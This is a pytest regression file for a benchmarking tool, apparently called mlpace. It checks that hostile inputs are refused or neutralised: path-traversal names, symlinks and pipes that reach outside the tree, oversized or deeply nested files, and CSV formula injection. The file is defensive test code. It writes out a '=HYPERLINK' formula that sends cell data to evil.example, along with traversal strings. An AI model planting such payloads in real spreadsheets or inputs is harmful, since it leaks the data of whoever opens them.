"""Each reproduced case of the hostile-input issue, one test each (they fail before the fix)."""

from __future__ import annotations

import json
import os
import shutil
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from corpus import ACCESSES, INTEL, SYSTEM, make_outside, one_error_line, run, snapshot  # noqa: E402

from mlpace.errors import MlpaceError  # noqa: E402
from mlpace.io import (MAX_FILE_BYTES, SafeTree, json_text, loads_bounded,  # noqa: E402
                       read_json_limited, read_text_limited)
from mlpace.submission.summarize import summarize  # noqa: E402
from mlpace.submission.training_log import parse_result_file, parse_result_text  # noqa: E402

ALIBABA = Path(__file__).resolve().parents[1] / "data" / "mlperf" / "inference_v1.1" / "closed" / "Alibaba"


# --- names that become paths -------------------------------------------------------------

@pytest.mark.parametrize("verb", [["train", "resnet"], ["suite"], ["infer", "resnet50", "--quick"]])
@pytest.mark.parametrize("option,value", [("--org", "../../escaped_org"), ("--system", "../../../escaped_sys"),
                                          ("--org", ".."), ("--system", "a\nb"), ("--org", "")])
def test_names_that_become_paths_are_single_safe_components(tmp_path, capsys, monkeypatch, verb, option, value):
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "a" / "b" / "c" / "OUT"
    code, _, err = run(capsys, [*verb, option, value, "--out", out, "--no-store"][: None if verb[0] != "infer" else -1])
    one_error_line(code, err, option)
    assert list(tmp_path.rglob("*")) == [], "something was written before the name was checked"


def test_a_system_name_from_a_system_description_file_is_checked_too(tmp_path):
    from mlpace.training.runs import TrainRequest, train_result
    req = TrainRequest(benchmark="resnet", scale="mini", runs=1, out=tmp_path / "OUT",
                       system_overrides={"system_name": "../../escaped"}, max_epochs=0)
    with pytest.raises(MlpaceError, match="system name"):
        train_result(req, None)
    assert not (tmp_path / "escaped").exists()


# --- reads outside the tree ---------------------------------------------------------------

def _tree(tmp_path):
    outside = make_outside(tmp_path)
    org = tmp_path / "tree" / "Intel"
    shutil.copytree(INTEL, org)
    return org, outside


@pytest.mark.parametrize("link", ["results", "systems"])
def test_a_linked_results_or_systems_folder_is_refused_by_name(tmp_path, link):
    org, outside = _tree(tmp_path)
    shutil.rmtree(org / link)
    os.symlink(outside / "Stolen" / link, org / link)
    with ACCESSES.watching():
        with pytest.raises(MlpaceError, match="no submission"):
            summarize(org.parent, workers=1)
    assert not ACCESSES.read_inside(outside)


def test_a_linked_system_description_is_never_opened(tmp_path):
    org, outside = _tree(tmp_path)
    desc = org / "systems" / f"{SYSTEM}.json"
    desc.unlink()
    os.symlink(outside / "secret.json", desc)
    with ACCESSES.watching():
        summary = summarize(org.parent, workers=1)
    assert not ACCESSES.read_inside(outside)
    assert any("outside the tree" in reason for path, reason in summary.problems if path.endswith(".json"))
    assert "STOLEN" not in json.dumps(summary.to_json())


def test_check_refuses_a_linked_result_file_before_opening_it(tmp_path):
    from mlpace.submission.check import check
    org, outside = _tree(tmp_path)
    log = org / "results" / SYSTEM / "resnet" / "result_2.txt"
    log.unlink()
    os.mkfifo(outside / "pipe")         # opening it would block: the test would hang
    os.symlink(outside / "pipe", log)
    with ACCESSES.watching():
        report = check(org.parent, workers=1)
    assert not ACCESSES.read_inside(outside)
    assert any(f.path.endswith("result_2.txt") and "outside the tree" in f.reason for f in report.findings)


@pytest.mark.parametrize("make,reason", [
    (lambda d: os.symlink("loop", d / "loop"), "loop"),
    (lambda d: os.symlink("missing", d / "result_9.txt"), "dangling"),
    (lambda d: os.symlink("result_1.txt", d / "result_7.txt"), "symbolic link"),
    (lambda d: os.mkfifo(d / "result_8.txt"), "not a regular file"),
])
def test_links_loops_and_pipes_get_a_clear_line(tmp_path, make, reason):
    make(tmp_path)
    tree = SafeTree(tmp_path)
    assert [p.name for p in tree.files(tmp_path)] == []
    assert len(tree.problems) >= 1 and reason in tree.problems[0][1]


def test_a_folder_reached_through_a_link_is_refused_at_any_depth(tmp_path):
    (tmp_path / "real" / "deep").mkdir(parents=True)
    (tmp_path / "real" / "deep" / "f.txt").write_text("x")
    os.symlink(tmp_path / "real", tmp_path / "tree")
    inner = tmp_path / "inner"
    inner.mkdir()
    os.symlink(tmp_path / "real", inner / "link")
    tree = SafeTree(inner)
    assert tree.files(inner / "link" / "deep") == [] and not tree.is_folder(inner / "link" / "deep")
    assert "outside the tree" in tree.problems[0][1]
    # The root itself may be reached through a link: the user chose it.
    assert [p.name for p in SafeTree(tmp_path / "tree").files(tmp_path / "tree" / "deep")] == ["f.txt"]


def test_readers_never_follow_a_final_link(tmp_path):
    (tmp_path / "real.json").write_text("{}")
    os.symlink(tmp_path / "real.json", tmp_path / "link.json")
    with pytest.raises(MlpaceError, match="symbolic link"):
        read_json_limited(tmp_path / "link.json")


# --- tracebacks ---------------------------------------------------------------------------

def test_a_400_digit_time_is_an_undecodable_line_not_an_overflow():
    big = "9" * 400
    run = parse_result_text(
        f':::MLLOG {{"key": "run_start", "time_ms": 1000, "metadata": {{}}}}\n'
        f':::MLLOG {{"key": "run_stop", "time_ms": {big}, "metadata": {{"status": "success"}}}}\n'
        f':::MLLOG {{"key": "seed", "value": 1e999, "time_ms": 5, "metadata": {{}}}}\n'
        f':::MLL 1e999 run_stop: {{"value": null}}\n')
    assert run.bad_lines == 2 and run.minutes is None and run.seed is None


def test_loadgen_summary_numbers_that_are_not_numbers_never_raise():
    """Found by the property test: the percentile pattern also matches "99.99.90"."""
    from mlpace.submission.loadgen_log import parse_accuracy_text, parse_summary_text
    summary = parse_summary_text("Additional Stats\n99.99.90 percentile latency (ns) : 5\n"
                                 "Mode : x\nfoo : " + "9" * 5000 + "\n")
    assert summary["latency_percentiles_ns"] == {}
    assert parse_accuracy_text("accuracy=1e999 target=- result=PASS")["metrics"] == {}


def test_json_nested_100000_deep_is_refused_in_one_line(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(MlpaceError, match="nests deeper"):
        read_json_limited(path)
    assert loads_bounded('{"a": "[[[[[[[["}', max_depth=1) == {"a": "[[[[[[[["}   # strings do not count
    with pytest.raises(MlpaceError, match="not valid JSON"):
        loads_bounded('{"a": NaN}')


def test_a_system_folder_name_that_is_not_utf8_is_refused_by_import(tmp_path, capsys):
    org = tmp_path / "Intel"
    shutil.copytree(INTEL, org)
    os.rename(os.fsencode(org / "results" / SYSTEM), os.fsencode(org / "results") + b"/box\xff")
    code, out, err = run(capsys, ["import", tmp_path, "--db", f"sqlite:///{tmp_path / 'db.sqlite'}"])
    assert code == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("setting,words", [
    ("batch_size=0", "batch size"), ("batch_size=-4", "batch size"), ("batch_size=99999999", "batch size"),
    ("base_lr=-1", "learning rate"), ("base_lr=nan", "finite"), ("base_lr=inf", "finite"),
    ("momentum=1.5", "fraction"), ("train_per_class=-3", "negative"), ("widths=8,-1", "negative"),
    ("eval_batch_size=0", "batch size"), ("weight_decay=nan", "finite"),
])
def test_config_values_are_checked_by_meaning(setting, words):
    from mlpace.benchmarks.resnet.workload import CONFIGS
    from mlpace.harness.config import apply_overrides, parse_set_options
    with pytest.raises(MlpaceError, match=words):
        apply_overrides(CONFIGS["mini"], parse_set_options([setting]))


def test_every_shipped_config_value_passes_the_meaning_check():
    import dataclasses
    import importlib

    from mlpace.harness.config import check_meaning
    for name in ("resnet", "ssd", "maskrcnn", "bert", "dlrm", "minigo", "rnnt", "unet3d"):
        for config in importlib.import_module(f"mlpace.benchmarks.{name}.workload").CONFIGS.values():
            for field in dataclasses.fields(config):
                check_meaning(field.name, getattr(config, field.name))


@pytest.mark.parametrize("argv,words", [
    (["--max-epochs", "-1"], "--max-epochs"), (["--runs", "0"], "--runs"),
    (["--time-budget", "nan"], "--time-budget"), (["--set", "batch_size=0"], "batch size"),
])
def test_train_options_are_checked_before_a_run(tmp_path, capsys, argv, words):
    code, _, err = run(capsys, ["train", "resnet", "--out", tmp_path / "OUT", "--no-store", *argv])
    one_error_line(code, err, words)
    assert not (tmp_path / "OUT").exists()


@pytest.mark.parametrize("verb", ["summarize", "check"])
def test_worker_counts_are_bounded(tmp_path, capsys, verb):
    code, _, err = run(capsys, [verb, tmp_path, "--workers", "100000000"])
    one_error_line(code, err, "--workers")


# --- sizes --------------------------------------------------------------------------------

def test_one_size_limit_for_every_reader(tmp_path):
    big = tmp_path / "big.txt"
    with open(big, "wb") as handle:
        handle.truncate(MAX_FILE_BYTES + 1)
    for read in (read_text_limited, read_json_limited, parse_result_file):
        with pytest.raises(MlpaceError, match="limit"):
            read(big)
    assert [p.name for p in SafeTree(tmp_path).files(tmp_path)] == []


def test_a_log_is_streamed_not_slurped(tmp_path):
    """Memory while parsing follows the decoded records, not the file: 20 MB of shell noise
    costs the parser a chunk's worth (reading it whole would hold 20 MB of text, and its lines
    as much again)."""
    import tracemalloc
    log = tmp_path / "result_0.txt"
    noise = ("x" * 199 + "\n") * 100_000                 # 20 MB of non-MLLOG lines
    log.write_text(':::MLLOG {"key": "run_start", "time_ms": 1, "metadata": {}}\n' + noise)
    tracemalloc.start()
    parse_result_file(log)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 * 2**20, f"parsing kept {peak / 2**20:.1f} MB"


# --- silent data loss ---------------------------------------------------------------------

def test_package_refuses_scenario_folders_that_collide_once_canonicalised(tmp_path):
    from mlpace.submission.package import package
    source_org = tmp_path / "runs" / "open" / "mlpace"
    shutil.copytree(ALIBABA / "results" / "T4x1_TRT", source_org / "results" / "T4x1_TRT")
    bench = source_org / "results" / "T4x1_TRT" / "ssd-mobilenet"
    shutil.copytree(bench / "Offline", bench / "offline")
    before = snapshot(tmp_path / "runs")
    with pytest.raises(MlpaceError, match="'Offline' and 'offline'"):
        package([tmp_path / "runs"], "MyOrg", tmp_path / "sub")
    assert not (tmp_path / "sub" / "open").exists() and snapshot(tmp_path / "runs") == before


# --- strict JSON writing ------------------------------------------------------------------

def test_json_is_written_strictly():
    text = json_text({"a": float("nan"), "b": [float("inf"), 1.5], "c": Path("x")})
    assert json.loads(text) == {"a": None, "b": [None, 1.5], "c": "x"} and "NaN" not in text


def test_the_file_floor_imports_nothing_of_mlpace_but_its_error_type():
    import subprocess
    code = "import sys, mlpace.io; print(sorted(m for m in sys.modules if m.startswith('mlpace')))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")})
    assert done.stdout.strip() == "['mlpace', 'mlpace.errors', 'mlpace.io']"


def test_a_tree_of_too_many_entries_is_refused_in_one_line(tmp_path, monkeypatch):
    import mlpace.io
    monkeypatch.setattr(mlpace.io, "MAX_ENTRIES", 10)       # the real limit is 200,000
    for i in range(20):
        (tmp_path / f"f{i}").write_text("x")
    with pytest.raises(MlpaceError, match="more than 10 files and folders"):
        SafeTree(tmp_path).files(tmp_path)


# --- exported tables ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _formula_cells(text: str) -> list[str]:
    import csv
    import io
    from mlpace.io import FORMULA_STARTS
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells, "no CSV written"

    def number(cell):
        try:
            return float(cell) is not None
        except ValueError:
            return False
    return [c for c in cells if c.startswith(FORMULA_STARTS) and c not in FORMULA_STARTS and not number(c)]


def test_names_from_a_tree_never_reach_a_spreadsheet_as_formulas(tmp_path, capsys):
    """A system description is the submitter's text: exported as it was, `=HYPERLINK(...)` ran
    in the spreadsheet of whoever opened the CSV (and could send the sheet's data away)."""
    org = tmp_path / "tree" / "Intel"
    shutil.copytree(INTEL, org)
    description = org / "systems" / f"{SYSTEM}.json"
    data = json.loads(description.read_text())
    data.update(system_name=FORMULA, submitter="@SUM(1+1)", host_processor_model_name="-2+3",
                accelerator_model_name=FORMULA)
    description.write_text(json.dumps(data))
    code, _, err = run(capsys, ["summarize", org.parent, "--csv", tmp_path / "summary.csv"])
    assert code == 0, err
    text = (tmp_path / "summary.csv").read_text()
    assert "'" + FORMULA.replace('"', '""') in text and _formula_cells(text) == []
    db = tmp_path / "store.sqlite"
    assert run(capsys, ["import", org.parent, "--db", db])[0] == 0
    code, out, err = run(capsys, ["results", "--db", db, "--format", "csv"])
    assert code == 0, err
    assert "'" + FORMULA.replace('"', '""') in out and _formula_cells(out) == []


def test_numbers_and_plain_text_are_exported_unchanged():
    from mlpace.io import csv_text
    text = csv_text(["a", "b", "c", "d"], [{"a": -1.5, "b": "-3", "c": "-", "d": None},
                                           {"a": "+7", "b": "Intel", "c": "a=b", "d": "-1+2"}])
    assert text == "a,b,c,d\n-1.5,-3,-,\n+7,Intel,a=b,'-1+2\n"
